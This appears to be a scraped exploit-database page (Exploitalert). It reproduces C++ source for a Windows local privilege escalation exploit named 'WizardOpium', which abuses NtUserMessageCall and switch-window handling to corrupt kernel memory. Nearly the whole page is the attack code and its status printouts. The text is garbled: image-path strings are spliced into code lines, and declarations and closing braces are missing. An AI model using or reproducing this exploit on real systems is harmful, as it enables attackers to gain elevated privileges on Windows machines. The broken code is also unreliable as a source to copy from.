Looking for a fix? Check your Codebase security with multiple scanners from

Edit Report

Our sensors found this exploit at:

Below is a copy:

Microsoft Windows WizardOpium Local Privilege Escalation
#include <cstdio>
#include <windows.h>

extern "C" NTSTATUS NtUserMessageCall(HWND hWnd, UINT msg, WPARAM wParam, LPARAM lParam, ULONG_PTR ResultInfo, DWORD dwType, BOOL bAscii);

int main() {
    HINSTANCE hInstance = GetModuleHandle(NULL);

    ZeroMemory(&wcx, sizeof(wcx));
    wcx.hInstance = hInstance;
    wcx.cbSize = sizeof(wcx);
    wcx.lpszClassName = L"SploitWnd";
    wcx.lpfnWndProc = DefWindowProc;
    wcx.cbWndExtra = 8; //pass check in xxxSwitchWndProc to set wnd->fnid = 0x2A0
    printf("[*] Registering window\n");
    ATOM wndAtom = RegisterClassEx(&wcx);
    if (wndAtom == INVALID_ATOM) {printf("[-] Failed registering SploitWnd window class\n");

    printf("[*] Creating instance of this window\n");
    HWND sploitWnd = CreateWindowEx(0, L"SploitWnd", L"", WS_VISIBLE, 0, 0, 0, 0, NULL, NULL, hInstance, NULL);
    if (sploitWnd == INVALID_HANDLE_VALUE) {
        printf("[-] Failed to create SploitWnd window\n");

    printf("[*] Calling NtUserMessageCall to set fnid = 0x2A0 on window\n");
    NtUserMessageCall(sploitWnd, WM_CREATE, 0, 0, 0, 0xE0, 1);

    printf("[*] Allocate memory to be used for corruption\n");
    PVOID mem = VirtualAlloc(0, 0x1000, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    printf("\tptr: %p\n", mem);
    PBYTE byteView = (PBYTE)mem;
    byteView[0x6c] = 1;             // use GetKeyState in xxxPaintSwitchWindow

    //pass DrawSwitchWndHilite double dereference
    PVOID* ulongView = (PVOID*)mem;
    ulongView[0x20 / sizeof(PVOID)] = mem;

    printf("[*] Calling SetWindowLongPtr to setwindow extra data, that will be later dereferenced\n");
    SetWindowLongPtr(sploitWnd, 0, (LONG_PTR)mem);
    printf("[*] GetLastError = %x\n", GetLastError());

    printf("[*] Creating switch window #32771, this has a result of setting (gpsi+0x154) = 0x130\n");
    HWND switchWnd = CreateWindowEx(0, (LPCWSTR)0x8003, L"", 0, 0, 0, 0, 0, NULL, NULL, hInstance, NULL);

    printf("[*] Simulating alt key press\n");
    BYTE keyState[256];
    keyState[VK_MENU] |= 0x80;printf("[*] Triggeringdereference of wnd->extraData by calling NtUserMessageCall second time");
    NtUserMessageCall(sploitWnd, WM_ERASEBKGND, 0, 0, 0, 0x0, 1);

Copyright ©2020 Exploitalert.

All trademarks used are properties of their respective owners. By visiting this website youagree to Terms of Use.